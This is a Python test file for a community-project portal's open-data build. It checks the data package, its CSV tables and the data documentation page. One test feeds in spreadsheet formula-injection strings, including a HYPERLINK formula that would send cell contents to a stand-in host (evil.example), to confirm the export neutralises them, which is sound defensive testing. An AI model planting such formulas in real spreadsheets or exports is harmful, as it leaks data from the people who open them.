"""The open data of every build: a valid Frictionless Data Package that matches the projects."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from bs4 import BeautifulSoup

from cocreate.portal.datapackage import TABLES
from cocreate.standard.vocabulary import CATEGORIES
from helpers import PROJECTS, one

SLUGS = sorted(p.name for p in PROJECTS.iterdir() if (p / "project.yml").exists())


def rows(site: Path, table: str) -> list[dict[str, str]]:
    with (site / "data" / f"{table}.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_frictionless_validates_the_package(demo_site: Path) -> None:
    from frictionless import validate

    report = validate(str(demo_site / "data" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]


def test_tables_match_the_projects(demo_site: Path) -> None:
    import yaml

    projects = rows(demo_site, "projects")
    assert [p["slug"] for p in projects] == SLUGS
    total_stakeholders = total_entries = 0
    for slug in SLUGS:
        data = yaml.load((PROJECTS / slug / "project.yml").read_text("utf-8"), Loader=yaml.BaseLoader)
        total_stakeholders += len(data["stakeholders"])
        total_entries += len(data["timeline"])
        row = next(p for p in projects if p["slug"] == slug)
        assert row["phase"] == data["phase"]
        assert row["title_en"] == data["title"]["en"]
    assert len(rows(demo_site, "stakeholders")) == total_stakeholders
    assert len(rows(demo_site, "timeline")) == total_entries
    raw = (demo_site / "data" / "projects.json").read_text("utf-8")
    everything = json.loads(raw)
    assert [p["slug"] for p in everything] == SLUGS
    # a project a line, without the spaces of json's default separators
    assert raw == "[" + ",\n".join(json.dumps(p, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
                                   for p in everything) + "]\n"


def test_every_field_is_documented_on_the_data_page(demo_site: Path) -> None:
    package = json.loads((demo_site / "data" / "datapackage.json").read_text("utf-8"))
    page = BeautifulSoup((demo_site / "data" / "index.html").read_text("utf-8"), "html.parser")
    for resource in package["resources"]:
        if "schema" not in resource:
            continue
        section = one(page, f"#table-{resource['name']}")
        documented = [td.text for td in section.select("tbody tr td:first-child code")]
        assert documented == [f["name"] for f in resource["schema"]["fields"]]
        assert all(f["description"] for f in resource["schema"]["fields"])
    assert {t.name for t in TABLES} <= {r["name"] for r in package["resources"]}


def test_no_personal_contact_data_in_the_package(demo_site: Path) -> None:
    text = "".join(p.read_text("utf-8") for p in (demo_site / "data").glob("*.*") if p.suffix in (".csv", ".json"))
    assert "@example" not in text
    assert "t@example.invalid" not in text


def test_the_codebook_says_how_formulas_are_published(demo_site: Path, demo_site_en: Path) -> None:
    from cocreate.i18n.translator import Translator

    for site, language in ((demo_site, "id"), (demo_site_en, "en")):
        note = Translator(language)("data.formulas")
        page = BeautifulSoup((site / "data" / "index.html").read_text("utf-8"), "html.parser")
        assert one(page, "#formulas").text == note
        package = json.loads((site / "data" / "datapackage.json").read_text("utf-8"))
        assert package["description"].endswith(note)
        assert all(resource["description"].endswith(note) for resource in package["resources"]
                   if resource["format"] == "csv")


def test_the_data_page_says_which_file_holds_what_and_it_does(demo_site: Path, demo_site_en: Path) -> None:
    """The long texts it names are in projects.json, whole, and in no table; the shorter
    ones are in both."""
    from cocreate.i18n.translator import Translator

    for site, language in ((demo_site, "id"), (demo_site_en, "en")):
        page = BeautifulSoup((site / "data" / "index.html").read_text("utf-8"), "html.parser")
        assert Translator(language)("data.files") in [p.text for p in page.select("p")]
    projects = {p["slug"]: p for p in json.loads((demo_site / "data" / "projects.json").read_text("utf-8"))}
    tables = "".join(p.read_text("utf-8") for p in (demo_site / "data").glob("*.csv"))

    def texts(value: object) -> list[str]:
        return list(value.values()) if isinstance(value, dict) else [str(value)]

    long = [text for data in projects.values() for text in [
        *texts(data["description"]), *(t for e in data["timeline"] if "description" in e for t in texts(e["description"])),
        *(texts(data["openness"]["how_to_join"]) if "how_to_join" in data["openness"] else []),
        *(t for o in data.get("outputs", []) if "description" in o for t in texts(o["description"]))]]
    assert len(long) > 20
    assert not [text for text in long if text.replace('"', '""') in tables]
    summaries = [text for data in projects.values() for text in texts(data["summary"])]
    assert all(text.replace('"', '""') in tables for text in summaries)


def test_contributed_texts_that_begin_like_formulas_are_neutralised(tmp_path: Path, minimal_text: str) -> None:
    from frictionless import validate

    from cocreate.standard.csvsafe import FORMULA_START
    from conftest import build, make_portal

    hostile = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    text = minimal_text.replace("title: Bank Sampah RT 03", "title: \"-5 derajat; =1+2\"")
    text = text.replace("name: Paguyuban Warga RT 03", f"name: {json.dumps(hostile)}")
    text = text.replace("contributes: Tenaga dan tempat", 'contributes: "@SUM(1)"')
    (tmp_path / "src" / "bank-sampah").mkdir(parents=True)
    (tmp_path / "src" / "bank-sampah" / "project.yml").write_text(text, "utf-8")
    site = build(make_portal(tmp_path / "portal", tmp_path / "src"))
    stakeholders = rows(site, "stakeholders")
    assert stakeholders[0]["name"] == f"'{hostile}"
    assert stakeholders[0]["contributes_id"] == "'@SUM(1)"
    assert rows(site, "projects")[0]["title_id"] == "'-5 derajat; =1+2"
    for table in TABLES:
        for line in (site / "data" / f"{table.name}.csv").read_text("utf-8").splitlines():
            assert line.startswith('"'), line
            assert line.endswith('"'), line  # every cell quoted
        for row in rows(site, table.name):
            assert not any(value.startswith(FORMULA_START) for value in row.values()), row
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"' in (site / "data" / "stakeholders.csv").read_text("utf-8")
    report = validate(str(site / "data" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]


def test_calls_and_principles_are_open_data_too(demo_site: Path) -> None:
    """Every recorded call (closed ones included: the data says what is recorded, the pages
    what is open on the day of the build), what it seeks, and every principle."""
    import yaml

    files = {slug: yaml.load((PROJECTS / slug / "project.yml").read_text("utf-8"), Loader=yaml.BaseLoader)
             for slug in SLUGS}
    calls = rows(demo_site, "calls")
    assert [c["project"] for c in calls] == [s for s in SLUGS if "seeking" in files[s]]
    for call in calls:
        seeking = files[call["project"]]["seeking"]
        assert (call["opened"], call["closes"]) == (seeking["opened"], seeking["closes"])
        assert call["categories"].split(";") == [c for c in CATEGORIES if c in seeking.get("categories", [])]
    needs = rows(demo_site, "needs")
    assert len(needs) == sum(len(files[s].get("seeking", {}).get(k, [])) for s in SLUGS for k in ("skills", "resources"))
    principles = rows(demo_site, "principles")
    assert [(p["project"], p["principle"]) for p in principles] == [
        (s, p["principle"]) for s in SLUGS for p in files[s].get("principles", [])]
    assert any(p["evidence"] for p in principles)
    assert all(p["practice_id"] for p in principles)
